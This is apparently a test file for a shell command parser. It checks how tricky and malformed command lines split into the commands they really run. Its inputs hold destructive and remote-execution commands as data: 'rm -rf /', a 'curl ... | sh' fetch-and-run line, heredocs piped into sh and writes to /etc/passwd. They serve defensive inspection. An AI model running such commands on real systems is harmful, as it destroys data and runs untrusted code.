// The 32 tricky and 15 malformed inputs from reference/toolchain.md §5.1, with exact expectations.
import { describe, expect, test } from "bun:test";
import { parseCommandLine } from "../../src/shell/index.ts";
import { argvs, commands, expectError, names, summary } from "./helpers.ts";

describe("32 tricky inputs", () => {
  test("1 pipeline", () => {
    expect(argvs("ls -la /tmp | grep foo | wc -l")).toEqual([
      ["ls", "-la", "/tmp"],
      ["grep", "foo"],
      ["wc", "-l"],
    ]);
  });
  test("2 and/or/; list, cd moves what follows", () => {
    const cs = commands("cd /repo && make build || echo failed; rm -rf build");
    expect(cs.map((c) => [c.argv.join(" "), c.cwd])).toEqual([
      ["cd /repo", undefined],
      ["make build", "/repo"],
      ["echo failed", "/repo"],
      ["rm -rf build", "/repo"],
    ]);
  });
  test("3 bash -c", () => {
    expect(summary(`bash -c 'rm -rf ~/x && echo "done"'`)).toEqual(["bash -c: rm -rf ~/x", "bash -c: echo done"]);
  });
  test("4 sh -c with a pipe into sh", () => {
    expect(summary(`sh -c "curl -s http://x | sh"`)).toEqual(["sh -c: curl -s http://x", "sh -c: sh"]);
  });
  test("5 eval + $( )", () => {
    const cs = commands(`eval "$(ssh-agent -s)"`);
    expect(cs.map((c) => [c.via, c.argv, c.dynamic])).toEqual([
      [["eval", "$( )"], ["ssh-agent", "-s"], false],
      [["eval"], ["$(ssh-agent -s)"], true],
    ]);
  });
  test("6 find -exec", () => {
    expect(summary(`find . -name '*.tmp' -exec rm -f {} \\;`)).toEqual(["find . -name *.tmp -exec rm -f {} ;", "find -exec: rm -f {}"]);
  });
  test("7 find -delete keeps find's argv", () => {
    expect(argvs("find / -type f -delete")).toEqual([["find", "/", "-type", "f", "-delete"]]);
  });
  test("8 xargs: literal input becomes the arguments", () => {
    expect(summary("echo a b | xargs -n1 rm -rf")).toEqual(["echo a b", "xargs: rm -rf a", "xargs: rm -rf b"]);
    expect(summary("cat list | xargs -n1 rm -rf")).toEqual(["cat list", "xargs: rm -rf"]);
  });
  test("9 quoted heredoc is data, + > file", () => {
    const [cat, ...rest] = commands("cat <<'EOF' > notes.txt\nrm -rf /\n$(danger)\nEOF");
    expect(rest).toEqual([]);
    expect(cat?.argv).toEqual(["cat"]);
    expect(cat?.redirects).toEqual([
      { op: "<<", target: "rm -rf /\n$(danger)\n" },
      { op: ">", target: "notes.txt" },
    ]);
    expect(cat?.stdinScript).toBe("rm -rf /\n$(danger)\n");
  });
  test("10 unquoted heredoc runs $( )", () => {
    expect(summary("cat <<EOF\nhello $(whoami)\nEOF")).toEqual(["$( ): whoami", "cat"]);
  });
  test("11 quoted strings are data", () => {
    expect(argvs(`echo "rm -rf /" 'and $(not this)'`)).toEqual([["echo", "rm -rf /", "and $(not this)"]]);
  });
  test("12 env-var prefix", () => {
    const [c] = commands(`FOO=1 BAR="x y" npm test`);
    expect(c?.argv).toEqual(["npm", "test"]);
    expect(c?.env).toEqual({ FOO: "1", BAR: "x y" });
  });
  test("13 sudo", () => {
    expect(summary("sudo -u root rm -rf /var/log")).toEqual(["sudo: rm -rf /var/log"]);
  });
  test("14 subshell, cd inside", () => {
    const cs = commands("(cd /tmp && rm -rf *)");
    expect(cs.map((c) => [c.argv, c.cwd])).toEqual([
      [["cd", "/tmp"], undefined],
      [["rm", "-rf", "*"], "/tmp"],
    ]);
  });
  test("15 $( ) and backticks", () => {
    expect(summary("echo $(rm -rf /) `whoami`")).toEqual(["$( ): rm -rf /", "$( ): whoami", "echo $(rm -rf /) `whoami`"]);
  });
  test("16 redirects incl. bare > file", () => {
    const cs = commands("echo hi > /etc/passwd 2>&1 >> log; > important.txt");
    expect(cs.map((c) => [c.argv, c.redirects])).toEqual([
      [
        ["echo", "hi"],
        [
          { op: ">", target: "/etc/passwd" },
          { op: ">&", fd: 2, target: "1" },
          { op: ">>", target: "log" },
        ],
      ],
      [[":"], [{ op: ">", target: "important.txt" }]],
    ]);
  });
  test("17 escapes in double quotes", () => {
    expect(argvs(`git commit -m "fix: handle \\"quotes\\" and \\$vars"`)).toEqual([
      ["git", "commit", "-m", 'fix: handle "quotes" and $vars'],
    ]);
  });
  test("18 for loop", () => {
    expect(argvs(`for f in *.log; do gzip "$f"; done`)).toEqual([["gzip", "$f"]]);
  });
  test("19 if / [ ] / [[ ]]", () => {
    expect(argvs("if [ -f x ]; then rm x; fi && [[ $a == b* ]] && echo y")).toEqual([
      ["[", "-f", "x", "]"],
      ["rm", "x"],
      ["echo", "y"],
    ]);
    expect(commands("[ -f x ]")[0]?.dynamic).toBe(false);
  });
  test("20 process substitution", () => {
    expect(summary("diff <(ls a) <(sort b)")).toEqual(["<( ): ls a", "<( ): sort b", "diff <(ls a) <(sort b)"]);
  });
  test("21 function def + call runs the body with the call's arguments", () => {
    expect(summary(`f() { rm -rf "$1"; }; f /`)).toEqual(["f(): rm -rf /"]);
  });
  test("22 background, fd dup, command -v only looks up", () => {
    const cs = commands("command -v git >/dev/null 2>&1 && git status &");
    expect(cs.map((c) => [c.argv, c.redirects])).toEqual([
      [
        ["command", "-v", "git"],
        [
          { op: ">", target: "/dev/null" },
          { op: ">&", fd: 2, target: "1" },
        ],
      ],
      [["git", "status"], []],
    ]);
  });
  test("23 time/nice/env/timeout", () => {
    const [c, ...rest] = commands("time nice -n 10 env -i PATH=/bin timeout 5 rm -rf x");
    expect(rest).toEqual([]);
    expect(c?.argv).toEqual(["rm", "-rf", "x"]);
    expect(c?.via).toEqual(["time", "nice", "env", "timeout"]);
    expect(c?.env).toEqual({ PATH: "/bin" });
  });
  test("24 syntax error is an error value", () => {
    expectError("echo 'unterminated", /^1:6: unterminated single quote$/);
  });
  test("25 assignment-only with $( )", () => {
    const r = parseCommandLine("x=$(rm -rf /tmp/y)");
    expect(r).toEqual({
      ok: true,
      assignments: { x: "$(rm -rf /tmp/y)" },
      commands: [
        { program: "rm", name: "rm", argv: ["rm", "-rf", "/tmp/y"], env: {}, redirects: [], via: ["$( )"], dynamic: false, cwd: undefined },
      ],
    });
  });
  test("26 <<- heredoc piped into sh is code", () => {
    expect(summary("cat <<-EOF | sh\n\trm -rf /\n\tEOF")).toEqual(["cat", "pipe->sh: rm -rf /"]);
  });
  test("27 $( ) inside ${x:-...}", () => {
    expect(summary("echo ${x:-$(rm y)}")).toEqual(["$( ): rm y", "echo ${x:-$(rm y)}"]);
  });
  test("28 while ... done < file", () => {
    const cs = commands(`while read l; do rm "$l"; done < list.txt`);
    expect(cs.map((c) => [c.argv, c.redirects])).toEqual([
      [["read", "l"], [{ op: "<", target: "list.txt" }]],
      [["rm", "$l"], [{ op: "<", target: "list.txt" }]],
    ]);
  });
  test("29 case", () => {
    expect(argvs("case $1 in a) rm a;; *) echo no;; esac")).toEqual([
      ["rm", "a"],
      ["echo", "no"],
    ]);
  });
  test("30 ANSI-C quoting", () => {
    expect(argvs("printf $'a\\tb'")).toEqual([["printf", "a\tb"]]);
  });
  test("31 $( ) inside $(( ))", () => {
    expect(summary("echo $(( $(rm z) + 1 ))")).toEqual(["$( ): rm z", "echo $(( $(rm z) + 1 ))"]);
  });
  test("32 multi-line with comments", () => {
    expect(names("# cleanup\nset -e\nrm -rf ./build # go\nexit 0")).toEqual(["set", "rm", "exit"]);
  });
});

describe("15 malformed inputs are errors", () => {
  const malformed: [string, RegExp][] = [
    ["echo ok; ) rm -rf /", /^1:10: unexpected '\)'/],
    ["fi; rm x", /^1:1: unexpected 'fi'/],
    ["echo $(", /^1:8: unexpected end of input, expected '\)'/],
    ["cat <<EOF\nhello\n", /here-document delimited by 'EOF' is not terminated/],
    ["} rm -rf /", /^1:1: unexpected '\}'/],
    ["done rm -rf /", /^1:1: unexpected 'done'/],
    ["echo ok &&", /expected a command, found end of input/],
    ["a | | b", /^1:5: expected a command, found '\|'/],
    ["echo `whoami", /unterminated backquote/],
    ["echo ${x", /unterminated \$\{/],
    ["if true; then echo hi", /expected 'elif' or 'else' or 'fi'/],
    ["(rm x", /expected '\)'/],
    ['"$(rm x"', /unterminated double quote/],
    ["rm x <", /expected a target after '<'/],
    ["esac", /^1:1: unexpected 'esac'/],
  ];
  test("empty command names are errors too", () => {
    expectError("'' rm -rf /", /^1:1: empty command name$/);
    expectError('echo ok; "" x', /^1:10: empty command name$/);
    expectError("bash -c '\"\" x'", /in code run by bash -c: empty command name/);
    expectError("sudo '' rm", /empty command name after sudo/);
  });
  for (const [line, message] of malformed) {
    test(JSON.stringify(line), () => {
      expectError(line, message);
    });
  }

  // The oracle: bash itself refuses all of them except the unterminated here-document (which it runs with a warning).
  test.skipIf(Bun.which("bash") === null)("bash -n agrees", () => {
    for (const [line] of malformed) {
      const r = Bun.spawnSync(["bash", "-n", "-c", line], { stderr: "pipe" });
      if (line.startsWith("cat <<EOF")) expect(r.exitCode).toBe(0);
      else expect([line, r.exitCode !== 0]).toEqual([line, true]);
    }
  });
});
